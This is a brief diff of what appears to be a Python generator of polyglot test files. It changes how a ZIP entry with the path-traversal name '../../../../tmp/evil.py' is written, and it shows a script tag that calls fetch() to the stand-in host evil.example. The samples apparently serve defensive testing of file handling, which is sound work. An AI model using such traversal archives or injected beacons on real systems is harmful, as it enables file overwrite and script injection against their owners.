@@ -149,7 +149,7 @@ def polyglots(random: Random) -> Iterator[File]:
             archive = io.BytesIO(data)
             archive.seek(0, io.SEEK_END)
             with zipfile.ZipFile(archive, "a") as file:
-                file.writestr("../../../../tmp/evil.py", random.randbytes(20))
+                file.writestr(zipfile.ZipInfo("../../../../tmp/evil.py"), random.randbytes(20))
             yield f"{kind} and ZIP", archive.getvalue()
             number = random.randint(0, 10**9)
             script = f"<script>fetch('//evil.example/{number}')</script>".encode()
